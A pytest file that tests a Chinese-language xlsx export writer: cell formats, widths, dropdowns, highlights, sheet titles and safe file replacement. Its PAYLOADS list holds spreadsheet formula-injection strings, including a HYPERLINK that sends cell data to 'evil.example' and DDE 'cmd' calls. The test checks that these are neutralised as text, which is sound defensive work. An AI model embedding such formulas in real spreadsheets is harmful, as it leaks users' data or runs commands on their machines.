"""The shared xlsx writer, read back with openpyxl cell by cell."""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from exports.xlsx import safe_sheet_title, write_xlsx
from exports.xlsx_cells import display_width
from exports.xlsx_spec import Column, Highlight, Kind, Sheet
from models.core.errors import Cancelled

PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "#N/A"]


def columns() -> list[Column]:
    return [Column("ID", Kind.ID), Column("姓名"), Column("手机", Kind.PHONE),
            Column("入群日期", Kind.DATE), Column("最近活跃", Kind.DATETIME),
            Column("积分", Kind.INT, total="sum"), Column("预算", Kind.MONEY_FEN, total="sum"),
            Column("状态", choices=("待准备", "已下单", "已到货")),
            Column("完成率", Kind.PERCENT)]


def rows() -> list[tuple]:
    return [
        (1, "张伟", "13800138000", "2024-03-05", "2024-03-05T14:00:00+08:00", 1200, 123450,
         "待准备", 0.25),
        (2, "😀 小雨", "01012345678", date(2023, 1, 2), datetime(2023, 1, 2, 9, 30), 0, 5,
         "已下单", 1),
        (3, None, "", None, None, None, None, None, None),
    ]


def load(path: Path):
    return openpyxl.load_workbook(path)


def test_values_kinds_and_formats(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    summary = write_xlsx(path, [Sheet("成员", columns(), rows(), totals_label="合计")])
    assert summary.rows == {"成员": 3}
    ws = load(path)["成员"]
    assert [c.value for c in ws[1]] == [c.header for c in columns()]
    first = ws[2]
    assert first[0].value == 1 and first[0].data_type == "n"
    assert first[1].value == "张伟"
    assert first[2].value == "13800138000" and first[2].data_type == "s"
    assert first[2].number_format == "@"
    assert first[3].value == datetime(2024, 3, 5) and first[3].number_format == "yyyy-mm-dd"
    assert first[4].value == datetime(2024, 3, 5, 14, 0)
    assert first[4].number_format == "yyyy-mm-dd hh:mm"
    assert first[5].value == 1200 and first[5].number_format == "#,##0"
    assert first[6].value == 1234.5 and "¥" in first[6].number_format
    assert first[8].value == 0.25 and first[8].number_format == "0.0%"
    second = ws[3]
    assert second[1].value == "😀 小雨"
    assert second[2].value == "01012345678"  # leading zero kept
    assert second[6].value == 0.05
    assert all(c.value is None for c in ws[4][1:])


def test_header_frozen_filter_and_widths(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    long_name = "欧阳娜娜的超长群昵称"
    data = [(1, long_name, "13800138000", None, None, 1, 1, None, None)]
    write_xlsx(path, [Sheet("成员", columns(), data)])
    ws = load(path)["成员"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:I2"
    assert ws.print_title_rows == "$1:$1"  # printed: the header on every page
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    header = ws["A1"]
    assert header.font.b and header.fill.fgColor.rgb.endswith("1F4E78")
    # Chinese counts double: the name column fits 10 CJK characters
    assert ws.column_dimensions["B"].width >= display_width(long_name) >= 20
    assert ws.column_dimensions["A"].width < ws.column_dimensions["B"].width


def test_formula_injection_is_text(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    cols = [Column("姓名"), Column("手机", Kind.PHONE), Column("日期", Kind.DATE)]
    write_xlsx(path, [Sheet("s", cols, [(p, p, p) for p in PAYLOADS])])
    ws = load(path)["s"]
    for row, payload in zip(ws.iter_rows(min_row=2), PAYLOADS, strict=True):
        for cell in row:
            assert cell.value == payload
            assert cell.data_type == "s", (cell.coordinate, payload)


def test_only_our_totals_are_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, [Sheet("成员", columns(), rows(), totals_label="合计")])
    ws = load(path)["成员"]
    formulas = [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert [c.coordinate for c in formulas] == ["F5", "G5"]
    assert ws["F5"].value == "=SUBTOTAL(109,F2:F4)"
    assert ws["A5"].value == "合计" and ws["A5"].font.b
    assert ws.auto_filter.ref == "A1:I4"  # the totals row stays out of the filter


def test_dropdown_refuses_other_values(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, [Sheet("成员", columns(), rows())])
    ws = load(path)["成员"]
    (validation,) = ws.data_validations.dataValidation
    assert validation.type == "list"
    assert validation.formula1 == '"待准备,已下单,已到货"'
    assert validation.showErrorMessage and validation.errorStyle == "stop"
    assert str(validation.sqref) == "H2:H4"


def test_long_dropdown_lists_go_to_a_hidden_sheet(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    choices = tuple(f"选项{i:03d}" for i in range(80)) + ("a,b", "=1+1")
    write_xlsx(path, [Sheet("s", [Column("状态", choices=choices)], [("选项001",)])])
    wb = load(path)
    assert wb["_lists"].sheet_state == "hidden"
    assert wb["_lists"]["A81"].value == "a,b"
    assert wb["_lists"]["A82"].value == "=1+1" and wb["_lists"]["A82"].data_type == "s"
    (validation,) = wb["s"].data_validations.dataValidation
    assert validation.formula1 == "'_lists'!$A$1:$A$82"


def test_highlight_rule(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    sheet = Sheet("成员", columns(), rows(), highlights=[
        Highlight("状态", "equal", ('"待准备"',)),
        Highlight("入群日期", formula='AND({cell}<>"",{cell}<DATE(2024,1,1))')])
    write_xlsx(path, [sheet])
    ws = load(path)["成员"]
    found = {str(rng.sqref): [r.type for r in rules]
             for rng, rules in ws.conditional_formatting._cf_rules.items()}
    assert found == {"H2:H4": ["cellIs"], "D2:D4": ["expression"]}


def test_illegal_characters_and_titles(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, [Sheet("a/b:c", [Column("备注")], [("x\x01y\x1fz",)]),
                      Sheet("a_b_c", [Column("备注")], [])])
    wb = load(path)
    assert wb.sheetnames == ["a_b_c", "a_b_c (2)"]
    assert wb["a_b_c"]["A2"].value == "xyz"
    assert safe_sheet_title("x" * 40) == "x" * 31


def test_progress_and_cancel_leave_no_file(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    seen = []

    def cancel_later(step: str, done: int, total: int) -> bool:
        seen.append((step, done, total))
        return done < 4000

    many = ((i, f"成员{i}") for i in range(10_000))
    with pytest.raises(Cancelled):
        write_xlsx(path, [Sheet("成员", [Column("ID", Kind.ID), Column("姓名")], many, 10_000)],
                   progress=cancel_later)
    assert seen[:2] == [("成员", 2000, 10_000), ("成员", 4000, 10_000)]
    assert list(tmp_path.iterdir()) == []


def test_replaces_only_when_complete(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    path.write_bytes(b"old")

    def broken():
        yield (1,)
        raise RuntimeError("disk went away")

    with pytest.raises(RuntimeError):
        write_xlsx(path, [Sheet("s", [Column("ID", Kind.ID)], broken())])
    assert path.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]


def test_display_width() -> None:
    assert display_width("abc") == 3
    assert display_width("张伟") == 4
    assert display_width("ＡＢ") == 4


def test_formula_columns_are_ours_in_every_row_and_the_values_ignored(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    cols = [Column("数量", Kind.INT), Column("单价", Kind.MONEY_FEN),
            Column("金额", Kind.MONEY_FEN, total="sum", formula="=A{row}*B{row}")]
    data = [(2, 150, "=HYPERLINK(1)"), (3, 99, None), (None, None)]
    write_xlsx(path, [Sheet("s", cols, data, totals_label="合计")])
    ws = load(path)["s"]
    assert [ws.cell(r, 3).value for r in (2, 3, 4)] == ["=A2*B2", "=A3*B3", "=A4*B4"]
    assert ws["C2"].number_format == '"¥"#,##0.00'
    assert ws["C5"].value == "=SUBTOTAL(109,C2:C4)"


def test_whole_row_highlight_covers_every_column(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    sheet = Sheet("成员", columns(), rows(), highlights=[
        Highlight("状态", formula='$H{row}="待准备"', whole_row=True)])
    write_xlsx(path, [sheet])
    ws = load(path)["成员"]
    ((rng, rules),) = ws.conditional_formatting._cf_rules.items()
    assert str(rng.sqref) == "A2:I4" and rules[0].formula == ['$H2="待准备"']
